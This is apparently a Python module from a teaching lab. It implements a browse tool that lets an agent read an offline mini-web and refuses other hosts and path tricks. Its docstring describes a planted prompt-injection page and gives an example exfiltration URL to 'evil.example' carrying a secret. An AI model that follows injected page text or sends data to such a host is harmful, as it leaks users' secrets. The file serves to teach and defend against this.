"""The browse tool: read one page of a bundled offline mini-web (assets/web/, host "wiki.local") and its links.

Real agents browse the live web (WebGPT, Nakano et al. 2021, https://arxiv.org/abs/2112.09332; ReAct's
Wikipedia API); LLM Lab ships eight small linked pages instead, so the tool is real (it parses the address,
reads the page, lists its links for the next step) and the machine never touches a network. What a browse
tool must refuse, it refuses here for the same reasons:

- any host but wiki.local: a model fooled by a page (the `forum` page plants one) may try to send data out
  by "visiting" https://evil.example/collect?q=<secret>; an allowlist of hosts is the defence;
- anything that is not a page name: `../`, absolute paths, `file://`, percent-encoded tricks. Names are matched
  against the files that exist (a fixed set read once), never joined into a path from the input.

Usage: browse("wiki.local/kv-cache") -> "wiki.local/kv-cache: The KV cache\\n<text>\\nLinks: [1] ..."
Addresses accepted: "kv-cache", "wiki.local/kv-cache", "http(s)://wiki.local/kv-cache", "/kv-cache"; the
empty path or "/" is the index page.
"""
import re
import urllib.parse
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

WEB_DIR = Path(__file__).resolve().parents[2] / "assets" / "web"
HOST = "wiki.local"
INDEX = "index"
MAX_ADDRESS_CHARS = 200
_NAME = re.compile(r"[a-z0-9]+(?:-[a-z0-9]+)*")  # page names: lowercase words joined by hyphens
_LINK = re.compile(r"\[([^\]\n]+)\]\(([^)\s]+)\)")  # [text](target)


class BrowseError(ValueError):
    """The address was refused or names no page; the message becomes the agent's Observation."""

    def __init__(self, message: str, kind: str = "refused") -> None:
        super().__init__(message)
        self.kind = kind


@dataclass(frozen=True)
class WebPage:
    name: str  # "kv-cache"
    title: str  # the first heading
    text: str  # the body with links as "text [n]"
    links: tuple[tuple[str, str], ...]  # (page name, link text), in order, as numbered in the text


def _parse(name: str, raw: str) -> WebPage:
    lines = raw.strip().splitlines()
    title = lines[0].lstrip("# ").strip() if lines and lines[0].startswith("#") else name
    body = " ".join(line.strip() for line in lines[1:] if line.strip())
    links: list[tuple[str, str]] = []

    def number(match: re.Match) -> str:
        links.append((match.group(2), match.group(1)))
        return f"{match.group(1)} [{len(links)}]"

    return WebPage(name, title, _LINK.sub(number, body), tuple(links))


@lru_cache(maxsize=1)
def load_web(web_dir: Path = WEB_DIR) -> dict[str, WebPage]:
    """Every page of the mini-web, by name (README.md is the folder's documentation, not a page)."""
    return {p.stem: _parse(p.stem, p.read_text(encoding="utf-8")) for p in sorted(web_dir.glob("*.md"))
            if p.stem != "README" and _NAME.fullmatch(p.stem)}


def page_name(address: str) -> str:
    """'https://wiki.local/kv-cache' -> 'kv-cache'; raises BrowseError for other hosts and anything but a name."""
    text = address.strip()
    if not text:
        raise BrowseError("the address is empty: write browse[wiki.local/index]", "input")
    if len(text) > MAX_ADDRESS_CHARS:
        raise BrowseError(f"the address is {len(text):,} characters; the limit is {MAX_ADDRESS_CHARS}", "input")
    if "://" not in text and not text.startswith("/"):
        first = text.split("/", 1)[0].lower()
        looks_like_host = first == HOST or ("." in first and not first.endswith(".md"))
        text = "http://" + (text if looks_like_host else f"{HOST}/{text}")
    elif text.startswith("/"):
        text = f"http://{HOST}{text}"
    parts = urllib.parse.urlsplit(text)
    if parts.scheme not in ("http", "https"):
        raise BrowseError(f"only http(s) addresses on {HOST} can be browsed; {parts.scheme!r} is not allowed")
    if parts.hostname != HOST:
        raise BrowseError(f"only the offline mini-web ({HOST}) can be browsed; {parts.hostname or 'that host'!s} "
                          "is not reachable from here (no network)")
    path = parts.path.strip("/").lower()
    name = path.removesuffix(".md") or INDEX
    if not _NAME.fullmatch(name):
        raise BrowseError(f"{path[:60]!r} is not a page name on {HOST} (lowercase words joined by hyphens)")
    return name


def browse(address: str, web: dict[str, WebPage] | None = None) -> str:
    """The page at `address` as an Observation: its address, title, text with numbered links, and the links."""
    web = load_web() if web is None else web
    name = page_name(address)
    page = web.get(name)
    if page is None:
        raise BrowseError(f"no page {HOST}/{name}; start at {HOST}/{INDEX} (pages: {', '.join(sorted(web))})")
    links = " ".join(f"[{i}] {HOST}/{target} ({text})" for i, (target, text) in enumerate(page.links, 1))
    return f"{HOST}/{name}: {page.title}\n{page.text}" + (f"\nLinks: {links}" if links else "")
